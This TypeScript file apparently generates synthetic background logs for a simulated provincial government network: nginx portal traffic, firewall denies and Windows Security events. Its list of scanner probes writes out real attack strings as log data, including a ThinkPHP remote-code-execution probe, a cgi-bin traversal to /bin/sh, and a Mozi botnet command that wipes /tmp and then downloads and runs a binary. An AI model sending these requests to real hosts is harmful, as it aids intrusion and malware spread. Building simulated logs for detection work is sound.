/**
 * The province's network-facing background: nginx portals (people on a daytime curve, crawlers, scanners' probes,
 * ordinary 4xx), firewall denies (internet background radiation), Windows Security events through NXLog.
 * Rates in model.ts, sources in README.md.
 */

import { type Ctx, CURVE_MAX, DAY_CURVE, type Generator, port, vnIp } from './background-common.js';
import { BROWSERS, CRAWLERS, iptablesDrop, localHour, nginx, winEvent } from './lines.js';
import type { Host, Rng } from './model.js';

const PAGES = [
  '/',
  '/tin-tuc',
  '/tin-tuc/chuyen-doi-so-cap-tinh-nam-2026-{n}.html',
  '/tin-tuc/thong-bao-lich-tiep-cong-dan-thang-12-{n}.html',
  '/thu-tuc-hanh-chinh?linhvuc={n}&page={p}',
  '/van-ban?so={n}%2F2026%2FQD-UBND',
  '/van-ban?sort=ngay_ban_hanh&order=desc&page={p}',
  '/tim-kiem?q=gi%E1%BA%A5y+ph%C3%A9p+x%C3%A2y+d%E1%BB%B1ng',
  '/tim-kiem?q=%22b%E1%BA%A3n+sao+ch%E1%BB%A9ng+th%E1%BB%B1c%22',
  '/tim-kiem?q=select+tr%C6%B0%E1%BB%9Dng+h%E1%BB%8Dc&page={p}',
  '/dichvucong/tra-cuu?mahoso=H40.{n}-261207-00{p}',
  '/api/thong-bao?limit=10&offset={p}0',
  '/lien-he',
  '/gioi-thieu/co-cau-to-chuc',
];
const STATIC = [
  '/static/css/main.css?v=3',
  '/static/js/app.min.js?v=3',
  '/images/banner-2026.jpg',
  '/images/logo.png',
  '/favicon.ico',
];
const PROBES: [string, string, number][] = [
  ['GET', '/wp-login.php', 404],
  ['GET', '/.env', 404],
  ['GET', '/.git/config', 404],
  ['GET', '/phpmyadmin/', 404],
  ['GET', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404],
  ['POST', '/boaform/admin/formLogin', 404],
  ['GET', '/actuator/health', 404],
  ['GET', '/owa/auth/logon.aspx', 404],
  ['POST', '/HNAP1/', 404],
  ['GET', '/solr/admin/info/system?wt=json', 404],
  ['GET', '/?XDEBUG_SESSION_START=phpstorm', 200],
  ['GET', '/admin/config.php', 404],
  ['GET', '/server-status', 403],
  [
    'GET',
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
    404,
  ],
  ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws', 404],
];
const SCANNER_UAS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  '-',
];

const fill = (s: string, r: Rng) =>
  s
    .replace('{n}', String(r.int(1, 999)))
    .replace('{p}', String(r.int(1, 9)))
    .replace('{ip}', r.publicIp());

/** An nginx portal: people (daytime curve), crawlers, scanners' probes, ordinary 4xx. */
/** An nginx portal. */
export function web(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const peak = (ctx.rates.webRequestsPerDay / 24) * CURVE_MAX;
  const { webCrawlerShare: cs, webScannerShare: ss, web4xxShare: fs } = ctx.rates;
  const scanners = Array.from({ length: 40 }, () => rng.publicIp());
  return {
    next: ctx.t0 + rng.gapMs(peak),
    fire(t, out) {
      const u = rng.next();
      const curve = DAY_CURVE[localHour(t)]! / CURVE_MAX;
      let line: string | null = null;
      if (u < cs * curve) {
        const ua = rng.pick(CRAWLERS);
        const ip = ua.includes('Googlebot')
          ? `66.249.66.${rng.int(1, 254)}`
          : ua.includes('bingbot')
            ? `40.77.167.${rng.int(1, 254)}`
            : ua.includes('coccoc')
              ? `123.30.175.${rng.int(1, 254)}`
              : rng.publicIp();
        const path = rng.chance(0.05) ? rng.pick(['/robots.txt', '/sitemap.xml']) : fill(rng.pick(PAGES), rng);
        const status = rng.chance(0.05) ? 404 : rng.chance(0.04) ? 301 : 200;
        line = nginx(t, host.name, ip, 'GET', path, status, rng.int(300, 60_000), ua);
      } else if (u < (cs + ss) * curve) {
        const [m, path, status] = rng.pick(PROBES);
        line = nginx(
          t,
          host.name,
          rng.pick(scanners),
          m,
          fill(path, rng),
          status,
          rng.int(150, 600),
          rng.pick(SCANNER_UAS),
        );
        if (rng.chance(0.02)) scanners[rng.int(0, scanners.length - 1)] = rng.publicIp();
      } else if (u < (cs + ss + fs) * curve) {
        const [path, status] = rng.pick([
          ['/images/tin-tuc/2019/anh-cu.jpg', 404],
          ['/favicon.ico', 404],
          ['/admin/', 403],
          ['/api/ho-so?token=expired', 401],
          ['/tin-tuc/bai-da-xoa-123.html', 404],
          ['/dichvucong/nop-ho-so', 400],
          ['/van-ban?page=', 499],
        ] as [string, number][]);
        line = nginx(t, host.name, vnIp(rng), 'GET', path, status, rng.int(150, 600), rng.pick(BROWSERS));
      } else if (u < curve) {
        const ip = vnIp(rng);
        const stat = rng.chance(0.4);
        const path = stat ? rng.pick(STATIC) : fill(rng.pick(PAGES), rng);
        const status = stat && rng.chance(0.3) ? 304 : 200;
        const post = !stat && rng.chance(0.03);
        line = nginx(
          t,
          host.name,
          ip,
          post ? 'POST' : 'GET',
          post ? '/dang-nhap' : path,
          post ? 302 : status,
          rng.int(200, 90_000),
          rng.pick(BROWSERS),
          `https://${host.name}.gov.vn/`,
        );
      }
      if (line) out.push({ t, agency: ai, transport: 'tcp', line, attack: -1 });
      return t + rng.gapMs(peak);
    },
  };
}

const FW_PORTS = [
  23, 23, 23, 2323, 22, 22, 445, 445, 3389, 3389, 8080, 5555, 1433, 3306, 6379, 5900, 8443, 37215, 52869, 81, 8081,
  9000, 7547, 60001, 5060, 161, 123, 1900, 11211, 25,
];

/** An agency firewall's denies: internet background radiation, mostly one-port-per-source scanners. */
export function firewall(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const perHour = ctx.rates.firewallDeniesPerDay / 24;
  const a = ctx.agencies[ai]!;
  const targets = a.hosts.filter((h) => h.kind !== 'firewall').map((h) => h.ip);
  const research = Array.from({ length: 20 }, () => rng.publicIp());
  let id = rng.int(1, 60000);
  return {
    next: ctx.t0 + rng.gapMs(perHour),
    fire(t, out) {
      const src = rng.chance(0.15) ? rng.pick(research) : rng.publicIp();
      const dpt = rng.chance(0.12) ? rng.int(1024, 65535) : rng.pick(FW_PORTS);
      const proto = [5060, 161, 123, 1900, 11211].includes(dpt) ? 'UDP' : 'TCP';
      id = (id + rng.int(1, 500)) % 65536;
      out.push({
        t,
        agency: ai,
        transport: 'tcp',
        line: iptablesDrop(t, host.name, src, rng.pick(targets), proto, port(rng), dpt, id),
        attack: -1,
      });
      return t + rng.gapMs(perHour);
    },
  };
}

const SID = 'S-1-5-21-3623811015-3361044348-30300820';

/** A Windows server's Security log through NXLog (HTTP intake): logons, logoffs, privileges, processes. */
export function windows(ctx: Ctx, rng: Rng, ai: number, host: Host): Generator {
  const a = ctx.agencies[ai]!;
  const peak = (ctx.rates.windowsEventsPerDay / 24) * CURVE_MAX;
  const domain = a.slug.toUpperCase();
  const hostname = `${host.name}.${a.slug}.gov.vn`;
  const users = ['nguyenvana', 'tranthib', 'lethic', 'phamvand', 'svc_backup', 'svc_sql'];
  let record = rng.int(100_000, 900_000);
  return {
    next: ctx.t0 + rng.gapMs(peak),
    fire(t, out) {
      if (rng.next() * CURVE_MAX > Math.max(0.6, DAY_CURVE[localHour(t)]!)) return t + rng.gapMs(peak);
      const u = rng.next();
      const user = rng.pick(users);
      const sid = `${SID}-${1100 + users.indexOf(user)}`;
      const ip = `${host.ip.split('.').slice(0, 3).join('.')}.${rng.int(50, 120)}`;
      const lid = `0x${rng.int(0x10000, 0xfffff).toString(16)}`;
      const base = { TargetUserSid: sid, TargetUserName: user, TargetDomainName: domain, TargetLogonId: lid };
      let ev: string;
      record++;
      if (u < 0.35)
        ev = winEvent(t, hostname, 4624, record, {
          ...base,
          LogonType: rng.pick(['3', '3', '3', '5', '2', '10']),
          LogonProcessName: 'Kerberos',
          AuthenticationPackageName: 'Kerberos',
          IpAddress: ip,
          IpPort: String(port(rng)),
          WorkstationName: '-',
        });
      else if (u < 0.65) ev = winEvent(t, hostname, 4634, record, { ...base, LogonType: '3' });
      else if (u < 0.8)
        ev = winEvent(t, hostname, 4672, record, {
          SubjectUserSid: sid,
          SubjectUserName: user,
          SubjectDomainName: domain,
          SubjectLogonId: lid,
          PrivilegeList: 'SeBackupPrivilege\n\t\t\tSeRestorePrivilege',
        });
      else if (u < 0.97) {
        const [image, cmd] = rng.pick([
          ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
          ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
          [
            'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe',
            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob',
          ],
          [
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\sao-luu-hang-ngay.ps1',
          ],
          [
            'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
            'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
          ],
        ] as [string, string][]);
        ev = winEvent(t, hostname, 4688, record, {
          SubjectUserSid: 'S-1-5-18',
          SubjectUserName: `${host.name}$`,
          SubjectDomainName: domain,
          SubjectLogonId: '0x3e7',
          NewProcessId: `0x${rng.int(0x100, 0xffff).toString(16)}`,
          NewProcessName: image,
          TokenElevationType: '%%1936',
          ProcessId: '0x2c4',
          CommandLine: cmd,
          ParentProcessName: 'C:\\Windows\\System32\\services.exe',
        });
      } else
        ev = winEvent(
          t,
          hostname,
          4625,
          record,
          {
            SubjectUserSid: 'S-1-0-0',
            SubjectUserName: '-',
            TargetUserSid: 'S-1-0-0',
            TargetUserName: user,
            TargetDomainName: domain,
            Status: '0xc000006d',
            SubStatus: '0xc000006a',
            FailureReason: '%%2313',
            LogonType: rng.pick(['2', '3', '10']),
            LogonProcessName: 'NtLmSsp ',
            AuthenticationPackageName: 'NTLM',
            WorkstationName: `PC-${rng.int(1, 60)}`,
            IpAddress: ip,
            IpPort: String(port(rng)),
          },
          true,
        );
      out.push({ t, agency: ai, transport: 'http', line: ev, attack: -1 });
      return t + rng.gapMs(peak);
    },
  };
}

/** Every background generator of the province, each with its own seeded Rng. */
